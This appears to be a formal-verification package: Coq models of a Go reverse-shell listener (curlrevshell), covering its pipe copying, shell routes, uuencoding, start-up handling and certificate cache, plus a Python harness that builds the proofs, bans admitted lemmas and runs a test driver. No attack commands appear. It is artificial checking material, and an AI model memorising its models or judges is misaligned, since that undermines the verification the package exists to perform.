  | te :: r => let '(s1, o) := mstep s te in
               let '(s2, os) := mrun_from s1 r in (s2, o :: os)
  end.
Definition mrun (es : list (Z * mev)) := mrun_from minit es.
