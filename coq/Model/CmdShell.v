(** Model of /repo/lib/simpleshell/shell.go, CmdShell.Go: the child writes to
    two kernel pipes and exits; two copiers move bytes from the pipes into the
    shared output stream; the stream is closed when both copiers have seen end
    of file; only then is the child reaped.  A run is any sequence of steps
    (steps that are not enabled do nothing), i.e. any interleaving, any chunk
    sizes, any pipe capacity, any speed of the consumer. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Inductive fd := FOut | FErr.

Record cst := {
  pend_o : bytes; pend_e : bytes;        (* what the child has still to write *)
  pipe_o : bytes; pipe_e : bytes;        (* bytes sitting in the kernel pipes *)
  child_done : bool;                     (* the child exited: its write ends are closed *)
  copy_o_done : bool; copy_e_done : bool;(* a copier returned (saw EOF) *)
  deliv_o : bytes; deliv_e : bytes;      (* bytes handed to the output stream, per descriptor, in order *)
  closed : bool                          (* the output stream was closed: its reader sees EOF after what was delivered *)
}.

Definition cinit (o e : bytes) : cst :=
  {| pend_o := o; pend_e := e; pipe_o := []; pipe_e := []; child_done := false;
     copy_o_done := false; copy_e_done := false; deliv_o := []; deliv_e := []; closed := false |}.

Inductive cstep :=
| ChildWrite (f : fd) (n : nat) (cap : nat)  (* the child writes up to n bytes; the pipe holds at most cap *)
| ChildExit
| Copy (f : fd) (n : nat)                    (* a copier moves up to n bytes (n > 0) from its pipe to the stream *)
| CopyEof (f : fd)                           (* a copier reads EOF: pipe empty and write end closed *)
| CloseStream.                               (* peg.Wait returned: outw.CloseWithError *)

Definition cnext (s : cst) (st : cstep) : cst :=
  match st with
  | ChildWrite FOut n cap =>
      if child_done s then s else
      let k := Nat.min n (cap - length (pipe_o s)) in
      {| pend_o := skipn k (pend_o s); pend_e := pend_e s; pipe_o := pipe_o s ++ firstn k (pend_o s); pipe_e := pipe_e s;
         child_done := false; copy_o_done := copy_o_done s; copy_e_done := copy_e_done s;
         deliv_o := deliv_o s; deliv_e := deliv_e s; closed := closed s |}
  | ChildWrite FErr n cap =>
      if child_done s then s else
      let k := Nat.min n (cap - length (pipe_e s)) in
      {| pend_o := pend_o s; pend_e := skipn k (pend_e s); pipe_o := pipe_o s; pipe_e := pipe_e s ++ firstn k (pend_e s);
         child_done := false; copy_o_done := copy_o_done s; copy_e_done := copy_e_done s;
         deliv_o := deliv_o s; deliv_e := deliv_e s; closed := closed s |}
  | ChildExit =>
      match pend_o s, pend_e s with
      | [], [] => {| pend_o := []; pend_e := []; pipe_o := pipe_o s; pipe_e := pipe_e s; child_done := true;
                     copy_o_done := copy_o_done s; copy_e_done := copy_e_done s;
                     deliv_o := deliv_o s; deliv_e := deliv_e s; closed := closed s |}
      | _, _ => s
      end
  | Copy FOut n =>
      if copy_o_done s then s else
      {| pend_o := pend_o s; pend_e := pend_e s; pipe_o := skipn n (pipe_o s); pipe_e := pipe_e s; child_done := child_done s;
         copy_o_done := false; copy_e_done := copy_e_done s;
         deliv_o := deliv_o s ++ firstn n (pipe_o s); deliv_e := deliv_e s; closed := closed s |}
  | Copy FErr n =>
      if copy_e_done s then s else
      {| pend_o := pend_o s; pend_e := pend_e s; pipe_o := pipe_o s; pipe_e := skipn n (pipe_e s); child_done := child_done s;
         copy_o_done := copy_o_done s; copy_e_done := false;
         deliv_o := deliv_o s; deliv_e := deliv_e s ++ firstn n (pipe_e s); closed := closed s |}
  | CopyEof FOut =>
      match pipe_o s, child_done s with
      | [], true => {| pend_o := pend_o s; pend_e := pend_e s; pipe_o := []; pipe_e := pipe_e s; child_done := true;
                       copy_o_done := true; copy_e_done := copy_e_done s;
                       deliv_o := deliv_o s; deliv_e := deliv_e s; closed := closed s |}
      | _, _ => s
      end
  | CopyEof FErr =>
      match pipe_e s, child_done s with
      | [], true => {| pend_o := pend_o s; pend_e := pend_e s; pipe_o := pipe_o s; pipe_e := []; child_done := true;
                       copy_o_done := copy_o_done s; copy_e_done := true;
                       deliv_o := deliv_o s; deliv_e := deliv_e s; closed := closed s |}
      | _, _ => s
      end
  | CloseStream =>
      if copy_o_done s && copy_e_done s then
        {| pend_o := pend_o s; pend_e := pend_e s; pipe_o := pipe_o s; pipe_e := pipe_e s; child_done := child_done s;
           copy_o_done := true; copy_e_done := true; deliv_o := deliv_o s; deliv_e := deliv_e s; closed := true |}
      else s
  end.

Definition crun (o e : bytes) (sched : list cstep) : cst := fold_left cnext sched (cinit o e).

(** The code before the repair (cmd.Run with StdoutPipe): once the child has
    exited, Wait closes the parent's read ends — whatever is still in the
    pipes is lost and the copiers return. *)
Definition waiter_closes (s : cst) : cst :=
  if child_done s then
    {| pend_o := pend_o s; pend_e := pend_e s; pipe_o := []; pipe_e := []; child_done := true;
       copy_o_done := true; copy_e_done := true; deliv_o := deliv_o s; deliv_e := deliv_e s; closed := closed s |}
  else s.

(** Go's result: an error iff the exit status is non-zero. *)
Definition go_reports_error (exit_status : N) : bool := negb (exit_status =? 0).
