(** C09 / C06: the routing table of internal/hsrv/handlers.go (newMux) and the
    pattern matching of net/http's ServeMux for such patterns, as far as the
    models need it.  The table is compared on every run with what the
    translator (translator/routes) reads off the working tree; Proofs/RoutesProofs
    shows that the shell-endpoint predicate the file-handler model uses
    ([Files.is_shell_segs]) is exactly "some shell route matches". *)
From Coq Require Import List String Bool NArith.
From CRS Require Import Lib.Bytes Model.Files.
Import ListNotations.
Open Scope N_scope.

(** (pattern, handler, registered only when files are served) *)
Definition model_routes : list (string * string * bool) :=
  [("/i/{id}", "inputHandler", false); ("/o/{id}", "outputHandler", false); ("/io", "inOutHandler", false);
   ("/io/", "inOutHandler", false); ("/c", "scriptHandler", false); ("/", "fileHandler", true)]%string.

Definition route_eqb (a b : string * string * bool) : bool :=
  String.eqb (fst (fst a)) (fst (fst b)) && String.eqb (snd (fst a)) (snd (fst b)) && Bool.eqb (snd a) (snd b).
Definition routes_match (r : list (string * string * bool)) : bool :=
  forallb (fun x => existsb (route_eqb x) model_routes) r && forallb (fun x => existsb (route_eqb x) r) model_routes &&
  Nat.eqb (length r) (length model_routes).

(** A pattern as its elements: a literal, a wildcard {name}, or the empty last element of a pattern ending in '/' (a subtree). *)
Inductive pseg := PLit (b : bytes) | PWild | PTree.
Fixpoint pat_match (p : list pseg) (segs : list bytes) : bool :=
  match p, segs with
  | [], [] => true
  | [PTree], _ :: _ => true                                   (* "/io/" matches "/io/" and everything below *)
  | PLit l :: p', s :: segs' => beq s l && pat_match p' segs'
  | PWild :: p', s :: segs' => negb (beq s []) && negb (beq s [47]) && pat_match p' segs'
        (* a wildcard matches one non-empty element; an element which decodes to "/" is the mux's trailing-slash marker *)
  | _, _ => false
  end.

(** the shell routes of [model_routes], as element lists *)
Definition shell_pats : list (list pseg) :=
  [[PLit (txt "i"); PWild]; [PLit (txt "o"); PWild]; [PLit (txt "io")]; [PLit (txt "io"); PTree]; [PLit (txt "c")]].
Definition shell_route_matches (segs : list bytes) : bool := existsb (fun p => pat_match p segs) shell_pats.
