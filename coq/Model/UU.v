(** Executable model of /repo/lib/uu/uu.go (AppendEncode, AppendDecode,
    MaxEncodedLen, MaxDecodedLen), transcribed statement by statement.
    Bytes are [N]; Go's [byte] truncation is written explicitly as [mod 256];
    Go's [int] arithmetic that may go negative is on [Z].
    Definitions only: proofs live in Proofs/UUProofs.v. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

(** Constants of uu.go (cross-checked per run against the source by the
    translator: GenUU.v / GenDep obligation). *)
Definition lineLen : nat := 45.
Definition uuOffset : N := 32.
Definition encChunkLen : nat := 4.
Definition decChunkLen : nat := 3.

(** ** Encoder *)
Definition byte_shl (x k : N) : N := (N.shiftl x k) mod 256.

(** [0b00111111 & v], then 0 -> '`', else + uuOffset. *)
Definition uu_char (v : N) : N :=
  let v := N.land v 63 in if v =? 0 then 96 else v + uuOffset.

(** One chunk of up to three bytes; [nth _ c 0] is the [append(chunk, 0[, 0])] padding. *)
Definition enc3 (c : bytes) : bytes :=
  let a := nth 0 c 0 in let b := nth 1 c 0 in let d := nth 2 c 0 in
  [ uu_char (N.shiftr a 2);
    uu_char (N.lor (byte_shl a 4) (N.shiftr b 4));
    uu_char (N.lor (byte_shl b 2) (N.shiftr d 6));
    uu_char (N.land d 63) ].

Definition enc_line (l : bytes) : bytes :=
  (uuOffset + N.of_nat (length l)) :: concat (map enc3 (chunks decChunkLen l)) ++ [10].

Definition encode (src : bytes) : bytes := concat (map enc_line (chunks lineLen src)).

(** [AppendEncode(dst, src)] *)
Definition append_encode (dst src : bytes) : bytes := dst ++ encode src.

(** ** Decoder *)
Inductive ecls :=
| EDataLen4                              (* ErrInvalidDataLen *)
| ELenChar (c : N)                       (* InvalidLengthCharacterError *)
| EIncorrect (expected actual : Z)       (* IncorrectDataLenError *)
| EBadChar (c : N).                      (* InvalidEncodedCharacterError *)

Inductive result :=
| Ok (b : bytes)
| Err (line off : N) (e : ecls)
| Panic.                                 (* a Go index expression out of range *)

Definition sanit (c : N) : N := if c =? 96 then uuOffset else c.

(** First unusable character of a (sanitised) chunk: index and value. *)
Fixpoint find_bad (c : bytes) (i : N) : option (N * N) :=
  match c with
  | [] => None
  | v :: r => if (v <? uuOffset) || (63 + uuOffset <? v) then Some (i, v) else find_bad r (i + 1)
  end.

(** The three byte expressions; [None] = index out of range in Go. *)
Definition dec4 (c : bytes) : option bytes :=
  match c with
  | [c0; c1; c2; c3] =>
      let s0 := c0 - uuOffset in let s1 := c1 - uuOffset in
      let s2 := c2 - uuOffset in let s3 := c3 - uuOffset in
      Some [ (byte_shl s0 2 + N.shiftr s1 4) mod 256;
             (byte_shl s1 4 + N.shiftr s2 2) mod 256;
             (byte_shl s2 6 + s3) mod 256 ]
  | _ => None
  end.

(** The chunk loop of one line: returns the bytes this line contributes. *)
Fixpoint dec_chunks (cs : list bytes) (off : N) (rem : nat) (lineN : N) : result :=
  match cs with
  | [] => Ok []
  | c :: r =>
      let c' := map sanit c in
      match find_bad c' 0 with
      | Some (i, v) => Err lineN (off + i) (EBadChar v)
      | None =>
          match dec4 c' with
          | None => Panic
          | Some d =>
              let d' := firstn rem d in
              match dec_chunks r (off + 4) (rem - length d')%nat lineN with
              | Ok t => Ok (d' ++ t)
              | e => e
              end
          end
      end
  end.

(** Expected number of encoded characters for [nDec] decoded bytes. *)
Definition enc_len_for (nDec : nat) : nat :=
  ((nDec / decChunkLen + (if (nDec mod decChunkLen =? 0)%nat then 0 else 1)) * encChunkLen)%nat.

(** One non-empty line. *)
Definition dec_line (lineN : N) (line0 : bytes) : result :=
  let line := if last line0 0 =? 13 then removelast line0 else line0 in
  let len := Z.of_nat (length line) in
  if negb (Z.land (len - 1) 3 =? 0)%Z then Err lineN 0 EDataLen4 else
  match line with
  | [] => Panic                                  (* line[0]; shown unreachable *)
  | l0 :: data =>
      if negb (l0 =? 96) && (l0 <? uuOffset) then Err lineN 0 (ELenChar l0) else
      let nDec := if l0 =? 96 then 0%nat else N.to_nat (l0 - uuOffset) in
      let encLen := enc_len_for nDec in
      if negb (Z.of_nat encLen =? len - 1)%Z
      then Err lineN 0 (EIncorrect (Z.of_nat encLen) (len - 1))
      else dec_chunks (chunks encChunkLen data) 1 nDec lineN
  end.

Fixpoint dec_lines (ls : list bytes) (lineN : N) : result :=
  match ls with
  | [] => Ok []
  | l :: r =>
      match l with
      | [] => dec_lines r (lineN + 1)           (* blank lines are skipped *)
      | _ =>
          match dec_line lineN l with
          | Ok d => match dec_lines r (lineN + 1) with
                    | Ok t => Ok (d ++ t)
                    | e => e
                    end
          | e => e
          end
      end
  end.

(** [AppendDecode(dst, src)]: on success the extended buffer, on error no buffer. *)
Definition decode (dst src : bytes) : result :=
  match dec_lines (split_on 10 src) 0 with
  | Ok t => Ok (dst ++ t)
  | e => e
  end.

(** ** Length bounds (uu.go:176-186) *)
Definition max_decoded_len (n : N) : N := 1 + (n * 16 / 3).
Definition max_encoded_len (n : N) : N := 63 * (1 + n / 45).

(** ** Independent specification of Perl's pack("u", ...), written from
    perldoc -f pack / the classic uuencode format, not from the Go code:
    lines of at most 45 bytes; a length character; the bits of the line
    (most significant first), zero-padded to a multiple of 24, regrouped
    in sixes; value 0 is written as a backtick, value v as chr(32+v). *)
Fixpoint bits_msb (w : nat) (x : N) : list bool :=     (* w-bit big-endian *)
  match w with
  | O => []
  | S k => N.testbit x (N.of_nat k) :: bits_msb k x
  end.
Fixpoint val_msb (bs : list bool) (acc : N) : N :=
  match bs with
  | [] => acc
  | b :: r => val_msb r (2 * acc + (if b then 1 else 0))
  end.
Definition pad_to (n : nat) (bs : list bool) : list bool :=
  let r := (length bs mod n)%nat in
  if (r =? 0)%nat then bs else bs ++ repeat false (n - r).
Definition perl_char (v : N) : N := if v =? 0 then 96 else 32 + v.
Definition perl_line (l : bytes) : bytes :=
  (32 + N.of_nat (length l))
    :: map (fun g => perl_char (val_msb g 0))
           (chunks 6 (pad_to 24 (concat (map (bits_msb 8) l))))
    ++ [10].
Definition perl_pack_u (src : bytes) : bytes := concat (map perl_line (chunks 45 src)).
