(** Model of rmain (/repo/curlrevshell.go:147-331) as the sequence of its
    start-up steps, each of which may fail, tracking whether the terminal is
    in raw mode when the process ends.  log.Fatalf ends the process at once
    (deferred functions do not run); [return n] runs the deferred cleanup. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Record config := {
  print_template : bool;       (* -print-default-template *)
  print_ctrl_i : bool;         (* -print-ctrl-i *)
  log_set : bool;              (* -log given *)
  ctrl_i_set : bool            (* -ctrl-i given *)
}.
Record faults := {
  no_tty : bool;               (* no controlling terminal *)
  bad_listen : bool;           (* listen address unusable *)
  cache_bad : bool;            (* certificate cache damaged or unwritable *)
  log_bad : bool;              (* log file cannot be opened *)
  ctrl_i_missing : bool        (* Ctrl+I source missing *)
}.
Inductive cause := CLog | CCtrlI | CTTY | CCache | CListen | CRun.
Inductive ending := Eof | OneShellDone | RunError.     (* how the running program ends by itself *)

Inductive outcome :=
| Exit (code : N) (raw_left : bool) (why : option cause)
| Panic.

Definition rmain (c : config) (f : faults) (e : ending) : outcome :=
  if print_template c then Exit 0 false None
  else if log_set c && log_bad f then Exit 1 false (Some CLog)                 (* log.Fatalf, terminal untouched *)
  else if print_ctrl_i c then
    (if negb (ctrl_i_set c) || ctrl_i_missing f then Exit 1 false (Some CCtrlI) else Exit 0 false None)
  else if no_tty f then Exit 1 false (Some CTTY)                               (* opshell.New failed: checked BEFORE the shell is used *)
  else
    (* the terminal is raw from here on; every way out is a return, so the deferred cleanup restores it *)
    if cache_bad f then Exit 2 false (Some CCache)
    else if bad_listen f then Exit 2 false (Some CListen)
    else match e with
         | Eof | OneShellDone => Exit 0 false None
         | RunError => Exit 1 false (Some CRun)
         end.

(** The first start-up step that cannot succeed, in program order. *)
Definition first_fault (c : config) (f : faults) : option cause :=
  if print_template c then None
  else if log_set c && log_bad f then Some CLog
  else if print_ctrl_i c then (if negb (ctrl_i_set c) || ctrl_i_missing f then Some CCtrlI else None)
  else if no_tty f then Some CTTY
  else if cache_bad f then Some CCache
  else if bad_listen f then Some CListen
  else None.

(** The order of the start-up steps [rmain] goes through, as the translator
    (translator/startorder) names them when it reads rmain off the working tree:
    the -print-default-template exit, opening the -log file, the -print-ctrl-i
    exit, setting up the terminal (opshell.New), deferring its cleanup, setting
    up the HTTPS service.  [rmain] above checks its faults in exactly this order,
    and "every way out after the terminal is raw is a return" is the translator's
    count of abrupt exits (log.Fatal*, os.Exit, panic) after opshell.New: zero. *)
From Coq Require Import String.
Definition model_startup_order : list string := ["template"; "log"; "ctrl_i"; "shell"; "cleanup"; "server"]%string.
Definition startup_order_matches (found : list string) : bool :=
  (fix eqs (a b : list string) : bool :=
     match a, b with
     | [], [] => true
     | x :: a', y :: b' => String.eqb x y && eqs a' b'
     | _, _ => false
     end) found model_startup_order.
