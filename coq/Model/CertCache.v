(** Model of /repo/lib/sstls/gencert.go (GetCertificate) with the certificate
    cache of archive.go.  Parsing the cache file (txtar + PEM + X509KeyPair) is
    environment: [loadres] is what LoadCachedCertificate says about the file's
    current bytes. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Inductive loadres :=
| LOk (kp : N)        (* a usable, MATCHING key pair with identity kp *)
| LNotExist           (* the error is fs.ErrNotExist *)
| LErr.               (* any other error *)

Inductive startres := Served (kp : N) | Failed.

(** One start with a cache file configured: (what is served, the key pair written to the cache if any). *)
Definition get_certificate (l : loadres) (fresh : N) : startres * option N :=
  match l with
  | LOk kp => (Served kp, None)              (* serve it; the existing file is not touched *)
  | LNotExist => (Served fresh, Some fresh)  (* generate, save, serve *)
  | LErr => (Failed, None)                   (* never regenerate over a damaged file *)
  end.

(** The cache file. *)
Inductive fstate :=
| FAbsent
| FComplete (kp : N)
| FTorn (kp : N) (n : N)       (* only the first n bytes of kp's file were written *)
| FDamaged (kp : N).           (* kp's file with a corrupted byte *)

(** What the real parsers may say about a file state: an incomplete or
    damaged file either still yields the ORIGINAL pair or is an error that is
    not 'does not exist' (checked on the real parsers for every prefix length
    and corruption class by the harness). *)
Definition load_ok (load : fstate -> loadres) : Prop :=
  load FAbsent = LNotExist /\
  (forall kp, load (FComplete kp) = LOk kp) /\
  (forall kp n, load (FTorn kp n) = LOk kp \/ load (FTorn kp n) = LErr) /\
  (forall kp, load (FDamaged kp) = LOk kp \/ load (FDamaged kp) = LErr).

Inductive cop :=
| Start (fresh : N)            (* a run starts; [fresh] is the pair it would generate *)
| DeleteCache
| CrashDuringWrite (n : N)     (* the NEXT write is cut after n bytes: modelled on the file it leaves *)
| Damage.

Definition apply_write (w : option N) (f : fstate) : fstate :=
  match w with Some kp => FComplete kp | None => f end.

(** A history: returns the file state and what each start served. *)
Fixpoint chistory (load : fstate -> loadres) (f : fstate) (ops : list cop) : fstate * list startres :=
  match ops with
  | [] => (f, [])
  | Start fresh :: r =>
      let '(res, w) := get_certificate (load f) fresh in
      let '(f', out) := chistory load (apply_write w f) r in (f', res :: out)
  | DeleteCache :: r => chistory load FAbsent r
  | CrashDuringWrite n :: r =>
      chistory load (match f with FComplete kp => FTorn kp n | other => other end) r
  | Damage :: r =>
      chistory load (match f with FComplete kp => FDamaged kp | other => other end) r
  end.

(** The key pair a file state stems from. *)
Definition origin (f : fstate) : option N :=
  match f with FAbsent => None | FComplete kp | FTorn kp _ | FDamaged kp => Some kp end.

Definition owner_only (mode : N) : bool := N.land mode 63 =? 0.     (* no group / other bits: mode & 0o077 = 0 *)
