(** Executable model of /repo/lib/shellfuncsfile/funclist.go (GenFuncList).
    The tabwriter is modelled for what the code feeds it: every row is one
    tab-terminated cell followed by trailing text, all rows in one column
    block; this is exact for text free of the tabwriter's own control bytes
    (TAB, VT, FF, 0xFF) — the restriction stated in the property. *)
From CRS Require Import Lib.Bytes Lib.Utf8 Lib.Sort Lib.ShLex.
Open Scope N_scope.

Definition DocPrefix : bytes := txt "# TABDOC:".
Definition ListFuncName : bytes := txt "tab_list".
Definition ListFuncDesc : bytes := txt "This function list".

(** [strings.Cut(line, " ")] *)
Fixpoint cut_space (l : bytes) : bytes * bytes :=
  match l with
  | [] => ([], [])
  | x :: r => if x =? 32 then ([], r) else let '(a, b) := cut_space r in (x :: a, b)
  end.

(** One documented line -> (name, "- desc") or nothing. *)
Definition doc_cell (line : bytes) : option (bytes * bytes) :=
  if bprefix DocPrefix line then
    let t := trim_space (skipn (length DocPrefix) line) in
    match t with
    | [] => None
    | _ => let '(name, desc) := cut_space t in
           Some (trim_space name, txt "- " ++ trim_space desc)
    end
  else None.

Fixpoint filter_map {A B} (f : A -> option B) (l : list A) : list B :=
  match l with
  | [] => []
  | x :: r => match f x with Some y => y :: filter_map f r | None => filter_map f r end
  end.

Definition cells (s : bytes) : list (bytes * bytes) :=
  (ListFuncName, txt "- " ++ ListFuncDesc) :: filter_map doc_cell (split_on 10 s).

(** tabwriter.NewWriter(buf, minwidth 2, tabwidth 8, padding 2, ' ', 0):
    column width = max(minwidth, max cell rune count + padding). *)
Definition col_width (cs : list (bytes * bytes)) : nat :=
  fold_right (fun c w => Nat.max (rune_count (fst c) + 2) w) 2%nat cs.

Definition fmt_row (w : nat) (c : bytes * bytes) : bytes :=
  fst c ++ repeat 32 (w - rune_count (fst c)) ++ snd c.

(** The formatted table, split into lines (what [strings.Split(buf, "\n")]
    minus empty strings yields), sorted and de-duplicated. *)
Definition rows (s : bytes) : list bytes :=
  let cs := cells s in
  let w := col_width cs in
  let table := concat (map (fun c => fmt_row w c ++ [10]) cs) in
  let lines := filter (fun l => negb (beq l [])) (split_on 10 table) in
  compact (sort_bytes lines).

Definition echo_line (row : bytes) : bytes :=
  txt "        echo '" ++ sq_escape row ++ [39; 10].

(** [GenFuncList(s)] *)
Definition gen_func_list (s : bytes) : bytes :=
  ListFuncName ++ txt "() {" ++ [10] ++ concat (map echo_line (rows s)) ++ txt "}" ++ [10].

(** ** Reading the generated text back the way a POSIX shell does:
    first line opens the function, last closes it, every body line must lex
    to exactly the command [echo] with ONE literal argument word. *)
Definition echo_arg (line : bytes) : option bytes :=
  match sh_lex line with
  | Some [cmd; arg] => if beq cmd (txt "echo") then Some arg else None
  | _ => None
  end.

Fixpoint all_some {A} (l : list (option A)) : option (list A) :=
  match l with
  | [] => Some []
  | Some x :: r => match all_some r with Some t => Some (x :: t) | None => None end
  | None :: _ => None
  end.

Definition parse_func (out : bytes) : option (list bytes) :=
  match split_on 10 out with
  | first :: rest =>
      if beq first (ListFuncName ++ txt "() {") then
        match rev rest with
        | [] :: closing :: body_rev =>
            if beq closing (txt "}") then all_some (map echo_arg (rev body_rev)) else None
        | _ => None
        end
      else None
  | [] => None
  end.
