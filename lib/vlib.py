"""Common machinery for /verif/bin/check (python3 stdlib only)."""
import fcntl, glob, hashlib, json, os, random, re, shutil, subprocess, sys, time
from concurrent.futures import ThreadPoolExecutor

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.environ.get("VERIF_REPO", "/repo")
COQ = os.path.join(VERIF, "coq")
NCPU = os.cpu_count() or 4

GOENV = dict(os.environ, GOFLAGS="-mod=mod", GOPROXY="off", GOSUMDB="off",
             GOTOOLCHAIN="local", CGO_ENABLED="0")

FORBIDDEN = re.compile(
    r"\b(Admitted|admit|Axiom|Axioms|Parameter|Parameters|Conjecture|"
    r"Admit Obligations|Unset Guard Checking|Unset Positivity Checking|"
    r"Unset Universe Checking|bypass_check|native_compute)\b")


class Infra(Exception):
    """Our own machinery failed (not a verdict about /repo)."""


def _big_stack():
    import resource
    try:
        soft, hard = resource.getrlimit(resource.RLIMIT_STACK)
        resource.setrlimit(resource.RLIMIT_STACK, (hard, hard))
    except Exception:
        pass


def sh(cmd, cwd=None, env=None, timeout=600, inp=None):
    p = subprocess.run(cmd, cwd=cwd, env=env, timeout=timeout, input=inp,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=_big_stack)
    return p.returncode, p.stdout, p.stderr


def repo_tree_id():
    rc, o, _ = sh(["git", "-C", REPO, "rev-parse", "HEAD"])
    head = o.decode().strip()
    rc, o, _ = sh(["git", "-C", REPO, "diff", "HEAD"])
    return head + ("+" + hashlib.sha1(o).hexdigest()[:10] if o.strip() else "")


# ---------------------------------------------------------------- Coq ----

def build_coq():
    """Full .vo build of the static development (no-op when current)."""
    lock = open(os.path.join(COQ, ".build.lock"), "w")
    fcntl.flock(lock, fcntl.LOCK_EX)
    try:
        bad = []
        for f in glob.glob(os.path.join(COQ, "**", "*.v"), recursive=True):
            for n, line in enumerate(open(f, errors="replace"), 1):
                code = re.sub(r"\(\*.*?\*\)", "", line)
                if FORBIDDEN.search(code):
                    bad.append("%s:%d: %s" % (f, n, line.strip()))
        if bad:
            raise Infra("forbidden vernacular in the development:\n" + "\n".join(bad))
        if not os.path.exists(os.path.join(COQ, "Makefile")):
            rc, o, e = sh(["coq_makefile", "-f", "_CoqProject", "-o", "Makefile"], cwd=COQ)
            if rc:
                raise Infra("coq_makefile failed: " + e.decode())
        rc, o, e = sh(["timeout", "900", "make", "-j%d" % NCPU], cwd=COQ, timeout=1000)
        if rc:
            raise Infra("static Coq development does not build (our bug, not a verdict):\n"
                        + (o + e).decode()[-3000:])
    finally:
        fcntl.flock(lock, fcntl.LOCK_UN)
        lock.close()


def prop_theorems(pid):
    """Names of the property theorems in Props/<pid>.v."""
    f = os.path.join(COQ, "Props", pid + ".v")
    names = re.findall(r"^Theorem\s+(\w+)", open(f).read(), re.M)
    return names


def coqc(vfile, cwd, extra_q=(), timeout=900):
    cmd = ["coqc", "-Q", COQ, "CRS"]
    for d, n in extra_q:
        cmd += ["-Q", d, n]
    cmd += ["-w", "-notation-overridden,-deprecated-hint-without-locality,-deprecated-syntactic-definition", vfile]
    try:
        rc, o, e = sh(cmd, cwd=cwd, timeout=timeout)
    except subprocess.TimeoutExpired:
        return 124, "", "coqc timeout on " + vfile
    return rc, o.decode(errors="replace"), e.decode(errors="replace")


def print_assumptions(pid, rundir):
    """Re-check what each property theorem depends on (fresh, per run)."""
    names = prop_theorems(pid)
    v = os.path.join(rundir, "Assumptions_%s.v" % pid)
    with open(v, "w") as f:
        f.write("From CRS Require Import Props.%s.\n" % pid)
        for n in names:
            f.write('Print Assumptions %s.\n' % n)
    rc, o, e = coqc(v, rundir)
    if rc:
        raise Infra("Print Assumptions failed for %s: %s" % (pid, e[-2000:]))
    blocks = [b.strip() for b in re.split(r"(?=Closed under the global context|Axioms:)", o) if b.strip()]
    res = {}
    for n, b in zip(names, blocks):
        res[n] = " ".join(b.split())
    if len(blocks) != len(names):
        raise Infra("could not parse Print Assumptions output:\n" + o)
    return res


def coq_str(b):
    """bytes -> Coq term of type [list N]: 7 bytes per primitive-int literal
    (Judge/Pack.v); short strings use the readable hex form."""
    if len(b) <= 12:
        return '(unhex "%s")' % b.hex()
    lits = ";".join("0x" + b[i:i + 7][::-1].hex() for i in range(0, len(b), 7))
    return "(up %d [%s]%%uint63)" % (len(b), lits)


def coq_eval(rundir, name, imports, casetype, terms, judge, shard=400, timeout=900):
    """Evaluate [judge] over case terms inside Coq (vm_compute), sharded.

    Returns list of (global_index, severity, clause) for the cases the judge
    flags, and the per-case tag list (list of ints, one per case).
    [judge] is the name of a function  list casetype -> list (N*N*N)  whose
    first component is the index inside the shard; [judge]_tags gives tags."""
    # size-balanced shards (largest first into the lightest bin); idxs maps back
    nb = max(1, min(len(terms), max(NCPU, (len(terms) + shard - 1) // shard)))
    bins = [[0, []] for _ in range(nb)]
    for gi in sorted(range(len(terms)), key=lambda i: -len(terms[i])):
        b = min(bins, key=lambda x: x[0])
        b[0] += len(terms[gi]) + 2000
        b[1].append(gi)
    idxs = [sorted(b[1]) for b in bins if b[1]] or [[]]
    shards = [[terms[i] for i in ix] for ix in idxs]
    files = []
    for k, sh_terms in enumerate(shards):
        v = os.path.join(rundir, "%s_%d.v" % (name, k))
        with open(v, "w") as f:
            f.write(imports + "\nFrom CRS Require Import Judge.Pack.\nOpen Scope string_scope.\n")
            f.write("Definition cases : list %s := [\n" % casetype)
            f.write(";\n".join(sh_terms))
            f.write("\n].\n")
            f.write("Definition R := Eval vm_compute in %s cases.\nPrint R.\n" % judge)
            f.write("Definition T := Eval vm_compute in %s_tags cases.\nPrint T.\n" % judge)
        files.append(v)

    def one(v):
        return coqc(os.path.basename(v), rundir, timeout=timeout)

    with ThreadPoolExecutor(max_workers=NCPU) as ex:
        outs = list(ex.map(one, files))
    flagged, tags, errors = [], [None] * len(terms), []
    for k, (rc, o, e) in enumerate(outs):
        if rc:
            errors.append("shard %d: rc=%d %s" % (k, rc, (o + e)[-1500:]))
            continue
        mR = re.search(r"R\s*=\s*(.*?)\s*:\s*list", o, re.S)
        mT = re.search(r"T\s*=\s*(.*?)\s*:\s*list", o, re.S)
        if not mR or not mT:
            errors.append("shard %d: unparsable output %s" % (k, o[-500:]))
            continue
        for a, b, c in re.findall(r"\(\s*(\d+)(?:%\w+)?\s*,\s*(\d+)(?:%\w+)?\s*,\s*(\d+)(?:%\w+)?\s*\)", mR.group(1)):
            flagged.append((idxs[k][int(a)], int(b), int(c)))
        t = [int(x) for x in re.findall(r"(\d+)(?:%\w+)?", mT.group(1))]
        if len(t) != len(shards[k]):
            errors.append("shard %d: %d tags for %d cases" % (k, len(t), len(shards[k])))
            continue
        for j, x in zip(idxs[k], t):
            tags[j] = x
    return flagged, tags, errors, files


# ----------------------------------------------------------- Go side ----

def build_drv(rundir, go="go", tags="verif"):
    """Build harness/drv inside /repo's module through an overlay."""
    src = os.path.join(VERIF, "harness", "drv")
    rundir = os.path.abspath(rundir)
    repl = {}
    for f in sorted(os.listdir(src)):
        if f.endswith(".go") and not f.endswith("_test.go"):
            repl[os.path.join(REPO, "zz_verif", "drv", f)] = os.path.join(src, f)
    ov = os.path.join(rundir, "overlay.json")
    json.dump({"Replace": repl}, open(ov, "w"))
    binp = os.path.join(rundir, "drv")
    rc, o, e = sh([go, "build", "-overlay", ov, "-tags", tags, "-o", binp, "./zz_verif/drv"],
                  cwd=REPO, env=GOENV, timeout=600)
    return rc == 0, binp, (o + e).decode(errors="replace")


def run_drv(binp, sub, inputs, args=(), timeout=600, env=None):
    inp = "".join(json.dumps(x) + "\n" for x in inputs).encode()
    try:
        rc, o, e = sh([binp, sub] + list(args), inp=inp, timeout=timeout, env=env)
    except subprocess.TimeoutExpired:
        return None, "driver timeout"
    res = []
    for line in o.decode(errors="replace").splitlines():
        line = line.strip()
        if line.startswith("{"):
            try:
                res.append(json.loads(line))
            except ValueError:
                pass
    if rc != 0:
        return res, "driver rc=%d: %s" % (rc, e.decode(errors="replace")[-2000:])
